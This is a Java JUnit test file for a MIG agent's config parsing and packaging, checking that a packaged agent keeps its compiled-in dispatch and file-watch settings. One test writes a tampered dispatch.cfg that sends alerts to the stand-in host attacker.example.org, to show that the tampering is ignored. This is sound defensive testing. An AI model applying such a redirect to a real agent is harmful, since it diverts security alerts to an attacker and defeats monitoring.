package mig.agent.persist;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.URI;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import mig.agent.build.AgentBuild;
import mig.agent.build.AgentPackager;
import mig.agent.build.TrustFixture;
import mig.agent.config.AgentConfig;
import mig.common.config.ConfigException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** fswatch.cfg and dispatch.cfg as the original wrote them, bad values, and the compiled-in copy. */
class PersistSettingsTest {
    @TempDir
    Path tmp;

    @Test
    void theOriginalsFilesRead() {
        PersistSettings s = PersistSettings.parse(
                Map.of(
                        "fswatch.cfg",
                        "[paths]\n    path = /home/user/testfile\n    path = recursive:/bin\n",
                        "dispatch.cfg",
                        "[dispatch]\nhttpurl = \"https://api.to.post.to/event\"\nsnstopic = \"\"\n"
                                + "outputmozdef = \"\"\nchannelsize = 0\n"),
                "t");
        assertEquals(
                List.of(
                        new FsWatchConfig.Entry(Path.of("/home/user/testfile"), false),
                        new FsWatchConfig.Entry(Path.of("/bin"), true)),
                s.fswatch().orElseThrow().entries());
        assertEquals(
                new DispatchConfig(URI.create("https://api.to.post.to/event"), false, 1024),
                s.dispatch().orElseThrow());
        assertEquals(
                FsWatchConfig.LINUX_DEFAULT,
                FsWatchConfig.parse("[paths]\n", "t").entries(),
                "no path: the original's Linux profile");
    }

    @Test
    void badValuesAreRefusedWithTheFix() {
        assertTrue(refused("fswatch.cfg", "[paths]\npath = etc\n").contains("must be an absolute path"));
        assertTrue(refused("fswatch.cfg", "[watch]\npath = /etc\n").contains("watch"));
        assertTrue(refused("dispatch.cfg", "[dispatch]\nsnstopic = alerts\n")
                .contains("SNS is not supported by this agent"));
        assertTrue(refused("dispatch.cfg", "[dispatch]\nhttpurl = \"ftp://x/\"\n")
                .contains("httpurl must be an http:// or https:// URL"));
        assertTrue(refused("dispatch.cfg", "[dispatch]\nchannelsize = 5\n").contains("httpurl must be"));
        assertTrue(refused("dispatch.cfg", "[dispatch]\nhttpurl = \"http://x/\"\nchannelsize = 2000000\n")
                .contains("channelsize must be from 1 to 1000000"));
    }

    /**
     * The attack: root on the endpoint rewrites /etc/mig/dispatch.cfg to send the alerts elsewhere
     * and /etc/mig/fswatch.cfg to watch nothing useful. A packaged agent keeps its compiled-in ones.
     */
    @Test
    void aPackagedAgentKeepsItsCompiledInModulesWhateverEtcMigSays() throws IOException {
        Path trust = TrustFixture.writeTrustFolder(tmp.resolve("trust"), "acme-prod", false, null);
        Files.writeString(trust.resolve("fswatch.cfg"), "[paths]\npath = recursive:/etc\n");
        Files.writeString(trust.resolve("dispatch.cfg"), "[dispatch]\nhttpurl = \"https://siem.example.net/mig\"\n");
        AgentPackager.Result r = AgentPackager.pack(
                trust,
                tmp.resolve("out"),
                List.of(),
                Optional.empty(),
                Optional.empty(),
                Clock.fixed(Instant.parse("2026-12-01T10:00:00Z"), ZoneOffset.UTC));
        AgentBuild build;
        try (URLClassLoader loader =
                new URLClassLoader(new URL[] {r.jar().toUri().toURL()}, null)) {
            build = AgentBuild.load(loader).orElseThrow();
        }
        assertTrue(AgentPackager.summary(build).contains("persist:  compiled-in dispatch.cfg, fswatch.cfg\n"));

        Path etc = Files.createDirectories(tmp.resolve("etc-mig"));
        Files.writeString(etc.resolve("dispatch.cfg"), "[dispatch]\nhttpurl = \"http://attacker.example.org/\"\n");
        Files.writeString(etc.resolve("fswatch.cfg"), "[paths]\npath = /tmp\n");
        AgentConfig config =
                AgentConfig.builder().confDir(etc).runDir(tmp.resolve("run")).build();

        PersistSettings s = PersistSettings.forAgent(Optional.of(build), config);
        assertEquals(
                URI.create("https://siem.example.net/mig"),
                s.dispatch().orElseThrow().httpUrl());
        assertEquals(
                List.of(new FsWatchConfig.Entry(Path.of("/etc"), true)),
                s.fswatch().orElseThrow().entries());

        // without a build (the development tree), /etc/mig is the configuration, as in the original
        PersistSettings dev = PersistSettings.forAgent(Optional.empty(), config);
        assertEquals(
                URI.create("http://attacker.example.org/"),
                dev.dispatch().orElseThrow().httpUrl());
    }

    @Test
    void aBadModuleFileFailsTheBuildNotTheAgents() throws IOException {
        Path trust = TrustFixture.writeTrustFolder(tmp.resolve("trust"), "acme-prod", false, null);
        Files.writeString(trust.resolve("dispatch.cfg"), "[dispatch]\nsnstopic = alerts\n");
        ConfigException e = assertThrows(
                ConfigException.class,
                () -> AgentPackager.pack(
                        trust, tmp.resolve("out"), List.of(), Optional.empty(), Optional.empty(), Clock.systemUTC()));
        assertTrue(e.getMessage().contains("dispatch.cfg: [dispatch] snstopic: SNS is not supported"), e.getMessage());
    }

    private static String refused(String file, String text) {
        return assertThrows(ConfigException.class, () -> PersistSettings.parse(Map.of(file, text), "t"))
                .getMessage();
    }
}
